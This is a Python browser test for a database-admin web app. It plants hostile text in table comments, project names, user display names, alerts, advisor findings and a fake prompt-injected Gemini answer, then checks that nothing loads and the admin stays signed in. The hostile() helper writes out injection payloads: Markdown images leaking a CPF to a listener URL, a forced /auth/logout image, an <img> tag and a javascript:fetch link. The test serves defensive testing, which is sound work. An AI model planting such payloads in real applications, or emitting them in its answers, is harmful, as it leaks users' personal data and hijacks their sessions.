"""U3 in Chromium: hostile outside text on every page loads nothing and signs nobody out.

Outside text is planted wherever the app shows it — a table and a column comment on the target
(Explorer), a project name and description and a script version message (Projects), a user's
display name (the sidebar, Users), an alert message (Alerts), an advisor finding whose detail
quotes another session's statement text and an unavailable lint's error (Advisor), and a
prompt-injected model answer from the fake Gemini (Assistant). Each value carries a Markdown
image of a local listener's URL (with a CPF in the query), `![x](/auth/logout)`, an <img> tag,
a javascript: link and a bare URL. The admin opens every page; the listener must see no request,
the browser must request no listener URL and no /auth/logout, and the admin must still be
signed in. Each value is also checked to be on the page as text, so the test cannot pass
because nothing was drawn.
"""

from __future__ import annotations

import json
from typing import Any

import psycopg
import pytest

from petcare_dba.services import projects
from petcare_dba.services.actor import Actor
from petcare_dba.services.projects import scripts
from petcare_dba.services.runtime import Runtime
from petcare_dba.services.security import users
from tests.fix_browser import screenshot
from tests.fix_db import ADMIN_PASSWORD, USER_PASSWORD
from tests.fix_gemini import AiTarget, FakeModelServer, ai_target, fake_gemini
from tests.security.g_render_fixtures import Listener, cookies_of, http, listener

__all__ = ["ai_target", "fake_gemini", "listener"]  # fixtures used by name
pytestmark = pytest.mark.browser
WAIT = 30000


def hostile(port: int, where: str) -> str:
    leak = f"http://127.0.0.1:{port}/{where}"
    return (
        f"{where}: ![x]({leak}?cpf=123.456.789-09&name=Ana) ![y](/auth/logout) "
        f'<img src="{leak}/img"> [click](javascript:fetch("{leak}/js")) {leak}/bare'
    )


@pytest.fixture
def ai_live_app(
    request: pytest.FixtureRequest,
    monkeypatch: pytest.MonkeyPatch,
    fake_gemini: FakeModelServer,
) -> str:
    """The live app with the assistant pointed at the fake (env set before it starts)."""
    for key, value in {
        "PETCARE_AI_PROVIDER": "gemini",
        "PETCARE_GEMINI_API_KEY": "test",
        "PETCARE_GEMINI_BASE_URL": fake_gemini.url,
        "PETCARE_AI_RETRY_DELAY_S": "0.01",
        "PETCARE_GEMINI_PAID_TIER": "true",
        # No background collector: its advisor runs and alert evaluations would replace the
        # planted run and events while the test reads them.
        "PETCARE_MONITORING_ENABLED": "false",
    }.items():
        monkeypatch.setenv(key, value)
    return str(request.getfixturevalue("live_app"))


def _plant(rt: Runtime, admin: Actor, meta_url: str, target: AiTarget, port: int) -> None:
    target.execute(
        "COMMENT ON TABLE t IS "
        + _literal(hostile(port, "comment"))
        + "; COMMENT ON COLUMN t.note IS "
        + _literal(hostile(port, "column"))
    )
    pid = projects.create(rt, admin, hostile(port, "project")[:190], hostile(port, "description"))
    scripts.save(rt, admin, pid, "s1", "SELECT 1", hostile(port, "version"))
    users.add_user(
        rt, admin, "eve", "viewer", USER_PASSWORD, display_name=hostile(port, "eve")[:190]
    )
    with psycopg.connect(meta_url, autocommit=True) as conn:
        conn.execute(
            "UPDATE petcare.users SET display_name = %s WHERE username = 'admin'",
            (hostile(port, "display")[:190],),
        )
        conn.execute(
            "INSERT INTO petcare.alert_events (rule_id, connection_id, severity, state, message) "
            "SELECT (SELECT min(id) FROM petcare.alert_rules), c.id, 'critical', 'firing', %s "
            "FROM petcare.connections c WHERE c.name = 'tgt'",
            (hostile(port, "alert"),),
        )
        run_id = conn.execute(
            "INSERT INTO petcare.advisor_runs (connection_id, findings, new_findings, "
            "resolved_findings, unavailable) SELECT id, 1, 1, 0, %s FROM petcare.connections "
            "WHERE name = 'tgt' RETURNING id",
            (json.dumps([["lint_x", hostile(port, "lint")]]),),
        ).fetchone()[0]
        conn.execute(
            "INSERT INTO petcare.advisor_findings (run_id, cache_key, name, title, level, "
            "category, object, detail, remediation, status) VALUES "
            "(%s, 'k1', 'long_running', %s, 'WARN', 'sessions', %s, %s, 'SELECT 1', 'new')",
            (
                run_id,
                hostile(port, "title"),
                hostile(port, "object"),
                "Query running for 10 min: SELECT * FROM tutors WHERE note = '"
                + hostile(port, "statement")
                + "'",
            ),
        )


def _literal(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _shown(page: Any, text: str) -> None:
    """Wait until `text` is visible as text (not in a grid's hidden accessibility table)."""
    page.get_by_text(text).filter(visible=True).first.wait_for(timeout=WAIT)


def _open(page: Any, link: str, marker: str) -> None:
    page.get_by_role("link", name=link).click()
    _shown(page, marker)
    page.wait_for_timeout(1500)  # let anything that would load, load


def test_hostile_outside_text_loads_nothing_on_any_page(
    ai_live_app: str,
    browser: Any,
    rt: Runtime,
    admin: Actor,
    meta_url: str,
    ai_target: AiTarget,
    fake_gemini: FakeModelServer,
    listener: Listener,
) -> None:
    port = listener.port
    _plant(rt, admin, meta_url, ai_target, port)
    fake_gemini.reply(
        {
            "text": "Here is the owner: "
            + hostile(port, "gemini")
            + "\n\n- a list item\n\n```sql\nSELECT 1;\n```\n",
        }
    )
    context = browser.new_context(locale="en-US", viewport={"width": 1500, "height": 1000})
    requested: list[str] = []
    context.on("request", lambda r: requested.append(r.url))
    page = context.new_page()
    page.goto(ai_live_app)
    page.get_by_label("Username").fill("admin")
    page.get_by_role("textbox", name="Password").fill(ADMIN_PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.get_by_role("button", name="Sign out").wait_for(timeout=WAIT)
    _shown(page, "display: ![x](http")  # the sidebar name

    _open(page, "Explorer", "Catalog read in")
    box = page.get_by_role("combobox", name="Relation")
    box.click()
    box.fill("public.t")
    page.get_by_role("option", name="public.t", exact=True).click()
    _shown(page, "comment: ![x](http")
    screenshot(page, "hostile-explorer")

    _open(page, "Projects", "project: ![x](http")
    _shown(page, "description: ![x](http")
    _open(page, "Advisor", "title: ![x](http")
    _shown(page, "lint: ![x](http")
    page.get_by_text("title: ![x](http").filter(visible=True).first.click()  # open the finding
    _shown(page, "statement: ![x](http")
    screenshot(page, "hostile-advisor")
    _open(page, "Alerts", "alert: ![x](http")
    _open(page, "Users", "Users")
    _open(page, "AI assistant", "AI consent on tgt")
    page.get_by_placeholder("Ask").first.fill("who owns pet 1?")
    page.keyboard.press("Enter")
    _shown(page, "gemini: ![x](http")
    _shown(page, "a list item")  # formatting still works
    page.wait_for_timeout(2000)
    screenshot(page, "hostile-assistant")
    page.reload()  # the stored conversation is drawn again from the database
    page.get_by_role("button", name="Sign out").wait_for(timeout=WAIT)

    assert listener.hits == []
    leaks = [u for u in requested if f":{port}" in u or "/auth/logout" in u or "javascript" in u]
    assert leaks == []
    assert page.locator(f"img[src*='127.0.0.1:{port}']").count() == 0
    token = cookies_of(context, ai_live_app)["petcare_session"]
    status, _, body = http(
        ai_live_app + "/auth/whoami", headers={"Cookie": f"petcare_session={token}"}
    )
    assert status == 200 and json.loads(body)["username"] == "admin"
    context.close()
